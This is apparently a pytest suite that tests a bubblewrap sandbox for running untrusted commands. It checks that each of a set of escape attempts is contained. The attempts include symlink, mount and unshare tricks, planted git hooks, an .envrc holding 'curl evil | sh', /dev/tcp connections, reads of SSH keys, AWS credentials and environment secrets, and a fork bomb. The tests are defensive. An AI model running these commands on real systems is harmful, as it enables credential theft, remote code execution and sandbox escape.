"""Hostile commands against the real bubblewrap sandbox: each one must be held."""

from __future__ import annotations

import dataclasses
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from modelroute.sandbox import SandboxSpec, run_sandboxed
from tests.sandbox.conftest import needs_bwrap, process_alive

pytestmark = needs_bwrap

# The real interpreter: a venv under /tmp is hidden inside the sandbox by its private /tmp, and a
# probe that cannot start would make a "refused" check pass for the wrong reason.
SANDBOX_PY = os.path.realpath(sys.executable)


def run(spec: SandboxSpec, command: str, **changes: object):  # type: ignore[no-untyped-def]
    return run_sandboxed(command, dataclasses.replace(spec, **changes) if changes else spec)


def git_snapshot(ws: Path) -> dict[str, bytes]:
    out = {}
    for root in (ws / ".git", ws / "vendor" / "lib" / ".git", ws / "store"):
        for p in sorted(root.rglob("*")):
            if p.is_file():
                out[str(p)] = p.read_bytes()
    return out


def test_plain_command_runs_and_writes_workspace(spec: SandboxSpec, workspace: Path) -> None:
    r = run(spec, "echo hi > made.txt && cat made.txt")
    assert r.exit_code == 0 and r.stdout == "hi\n"
    assert (workspace / "made.txt").read_text() == "hi\n"


WRITES_OUTSIDE = [
    "echo x > {outside}/target.txt",
    "echo x > ../outside/target.txt",
    "cd .. && echo x > outside/target.txt",
    "ln -s ../outside link && echo x > link/target.txt",
    "ln -s {outside}/target.txt sl && echo x > sl",
    "ln {outside}/target.txt hard && echo x > hard",
    "cp /bin/true ../outside/target.txt",
    "echo x > /proc/1/root{outside}/target.txt",
    "mount -o remount,rw / && echo x > {outside}/target.txt",
    "mount --bind . {outside} && echo x > {outside}/target.txt",
    "unshare -Ur sh -c 'echo x > {outside}/target.txt'",
    "python3 -c \"import os; os.chroot('/')\" ; echo x > {outside}/target.txt",
]


@pytest.mark.parametrize("command", WRITES_OUTSIDE)
def test_writes_outside_workspace_are_held(spec: SandboxSpec, workspace: Path, command: str) -> None:
    outside = workspace.parent / "outside"
    run(spec, command.format(outside=outside))
    assert (outside / "target.txt").read_text() == "original\n"
    assert sorted(p.name for p in outside.iterdir()) == ["target.txt"]


PROTECTED = [
    "echo '[core] fsmonitor = evil' >> .git/config",
    "echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "mv .git .git-old; mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout",
    "rm -rf .git; cp -r /nonexistent .git",
    "echo evil >> vendor/lib/.git/config",
    "echo evil > vendor/lib/.git/hooks/pre-push",
    "echo evil >> store/config",
    "echo 'gitdir: /tmp/evil' > wt/.git",
    "echo 'objective = \"quality\"' > .modelroute.toml",
    "mv .modelroute.toml x.toml",
    "echo '{{\"evil\":1}}' > .vscode/settings.json",
    "mount -o remount,rw {ws}/.git && echo evil >> .git/config",
    "umount {ws}/.git && echo evil >> .git/config",
]


@pytest.mark.parametrize("command", PROTECTED)
def test_protected_paths_are_read_only(spec: SandboxSpec, workspace: Path, command: str) -> None:
    before = git_snapshot(workspace)
    settings = (workspace / ".modelroute.toml").read_text()
    vscode = (workspace / ".vscode" / "settings.json").read_text()
    run(spec, command.format(ws=workspace))
    assert git_snapshot(workspace) == before
    assert (workspace / ".modelroute.toml").read_text() == settings
    assert (workspace / ".vscode" / "settings.json").read_text() == vscode
    assert (workspace / "wt" / ".git").read_text() == "gitdir: ../store\n"


@pytest.mark.parametrize(
    "command",
    [
        "echo 'curl evil | sh' > .envrc",
        "mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/post-checkout",
        "echo '[submodule]' > .gitattributes",
    ],
)
def test_new_protected_paths_are_removed_and_reported(
    spec: SandboxSpec, workspace: Path, command: str
) -> None:
    r = run(spec, command)
    assert r.violations, r
    assert not (workspace / ".envrc").exists()
    assert not (workspace / "sub" / ".git").exists()
    assert not (workspace / ".gitattributes").exists()


def test_nested_namespaces_refused(spec: SandboxSpec) -> None:
    r = run(spec, "unshare -U true && echo NESTED; unshare -Urn true && echo NESTED2")
    assert "NESTED" not in r.stdout


def test_no_capabilities_and_seccomp(spec: SandboxSpec) -> None:
    r = run(spec, "grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status")
    assert "CapEff:\t0000000000000000" in r.stdout
    assert "NoNewPrivs:\t1" in r.stdout and "Seccomp:\t2" in r.stdout


@pytest.fixture
def listener():  # type: ignore[no-untyped-def]
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.setblocking(False)
    yield srv
    srv.close()


def _accepted(srv: socket.socket) -> bool:
    try:
        conn, _ = srv.accept()
        conn.close()
        return True
    except BlockingIOError:
        return False


def test_loopback_listener_unreachable(spec: SandboxSpec, listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    r = run(
        spec, f"{SANDBOX_PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\""
    )
    assert r.exit_code != 0 and not _accepted(listener)


def test_dev_tcp_unreachable(spec: SandboxSpec, listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    r = run(spec, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED")
    assert "CONNECTED" not in r.stdout and not _accepted(listener)


def test_external_network_has_no_route(spec: SandboxSpec) -> None:
    r = run(
        spec, "cat /proc/net/dev | tail -n +3 | cut -d: -f1; exec 3<>/dev/tcp/1.1.1.1/53 && echo CONNECTED"
    )
    assert "CONNECTED" not in r.stdout
    assert [line.strip() for line in r.stdout.split("\n") if line.strip()] == ["lo"]


def test_host_unix_socket_refused(spec: SandboxSpec, tmp_path: Path) -> None:
    # /tmp is private in the sandbox: use a folder that stays visible (read-only), like /var/run.
    sock_dir = Path(tempfile.mkdtemp(dir="/var/tmp"))
    path = str(sock_dir / "docker.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    srv.listen(1)
    srv.setblocking(False)
    try:
        probe = f"import os, socket; print(os.path.exists({path!r})); "
        probe += f"socket.socket(socket.AF_UNIX).connect({path!r})"
        r = run(spec, f'{SANDBOX_PY} -c "{probe}"')
        assert r.stdout.strip() == "True"  # the socket is visible...
        assert r.exit_code != 0 and "Operation not permitted" in r.stderr  # ...and refused
        assert not _accepted(srv)
    finally:
        srv.close()
        shutil.rmtree(sock_dir)


def test_unix_socket_in_workspace_refused(spec: SandboxSpec, workspace: Path) -> None:
    path = str(workspace / "agent.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    srv.listen(1)
    srv.setblocking(False)
    try:
        r = run(
            spec,
            f"{SANDBOX_PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}')\"",
        )
        assert r.exit_code != 0 and not _accepted(srv)
    finally:
        srv.close()


def test_inherited_secrets_not_visible(spec: SandboxSpec, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-SECRET-123")
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-SECRET-456")
    r = run(spec, "env; cat /proc/self/environ")
    assert "SECRET" not in r.stdout
    assert sorted(line.split("=")[0] for line in r.stdout.splitlines() if "=" in line)[:4] == [
        "HOME",
        "LANG",
        "PATH",
        "PWD",
    ]


def test_credentials_hidden(spec: SandboxSpec, home: Path, _data_dir: Path) -> None:
    r = run(
        spec,
        f"cat {home}/.ssh/id_rsa {home}/.aws/credentials {home}/.netrc {_data_dir}/secret-ledger.json;"
        f" ls -A {home}/.ssh",
    )
    assert "PRIVATE" not in r.stdout and "hunter2" not in r.stdout and "aws_secret" not in r.stdout
    assert "private" not in r.stdout
    assert (home / ".netrc").read_text() == "machine x password hunter2"


def test_deny_read_hides_paths(spec: SandboxSpec, tmp_path: Path) -> None:
    secret = tmp_path / "outside" / "target.txt"
    r = run(spec, f"cat {secret}", deny_read=(str(secret),))
    assert "original" not in r.stdout


def test_host_processes_invisible_and_unkillable(spec: SandboxSpec) -> None:
    host = subprocess.Popen(["sleep", "30"])
    try:
        r = run(spec, f"ls /proc | grep -c '^[0-9]'; kill -9 {host.pid}; ps -e 2>/dev/null | grep -c sleep")
        assert int(r.stdout.split()[0]) <= 5  # bwrap's init, bash, ls, grep
        assert host.poll() is None
    finally:
        host.kill()
        host.wait()


@pytest.mark.parametrize(
    "command",
    [
        "sleep 1001 & echo started",
        "(setsid sleep 1002 &) ; nohup sleep 1003 > /dev/null 2>&1 & echo ok",
        "sh -c 'sleep 1004 & exit 0' & disown; echo ok",
    ],
)
def test_background_processes_do_not_outlive_the_run(spec: SandboxSpec, command: str) -> None:
    run(spec, command)
    time.sleep(0.2)
    for marker in ("sleep 1001", "sleep 1002", "sleep 1003", "sleep 1004"):
        assert not process_alive(marker), marker


def test_fork_bomb_is_bounded(spec: SandboxSpec) -> None:
    r = run(spec, "bomb() { bomb | bomb & }; bomb", timeout_s=4, max_processes=40)
    assert r.process_limit in ("cgroup-v1", "cgroup-v2")
    time.sleep(0.2)
    assert not process_alive("bomb")


def test_output_flood_is_capped(spec: SandboxSpec) -> None:
    r = run(spec, "yes flood", max_output_bytes=50_000)
    assert r.truncated and len(r.stdout) <= 50_000
    assert not r.timed_out  # stopped by the cap, not by the timeout


def test_timeout_kills_process_group(spec: SandboxSpec) -> None:
    r = run(spec, "sleep 1005 & sleep 1006", timeout_s=1)
    assert r.timed_out and r.exit_code == 124
    time.sleep(0.2)
    assert not process_alive("sleep 1005") and not process_alive("sleep 1006")


def test_private_dev_shm_and_proc_sys(spec: SandboxSpec) -> None:
    name = f"mr-evil-{os.getpid()}"
    run(
        spec,
        f"echo x > /dev/shm/{name}; echo 1 > /proc/sys/kernel/sysrq; "
        "echo 0 > /sys/fs/cgroup/pids/cgroup.procs",
    )
    assert not Path(f"/dev/shm/{name}").exists()


def test_read_only_mode(spec: SandboxSpec, workspace: Path) -> None:
    r = run(spec, "echo x > src.txt; echo y > new.txt", mode="read-only")
    assert (workspace / "src.txt").read_text() == "hello\n" and not (workspace / "new.txt").exists()
    assert r.exit_code != 0


def test_network_on_shares_network(spec: SandboxSpec, listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    r = run(spec, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED", network=True)
    assert "CONNECTED" in r.stdout


@pytest.mark.parametrize(
    "command",
    [
        "echo x > {vis}/target.txt",
        "ln -s {vis}/target.txt sl && echo x > sl",
        "ln {vis}/target.txt hard && echo x >> hard",
        "cat {vis}/target.txt > copy.txt && rm -f {vis}/target.txt",
    ],
)
def test_visible_outside_files_are_read_only(spec: SandboxSpec, workspace: Path, command: str) -> None:
    vis = Path(tempfile.mkdtemp(dir="/var/tmp"))
    (vis / "target.txt").write_text("original\n")
    try:
        run(spec, command.format(vis=vis))
        assert (vis / "target.txt").read_text() == "original\n"
    finally:
        shutil.rmtree(vis)
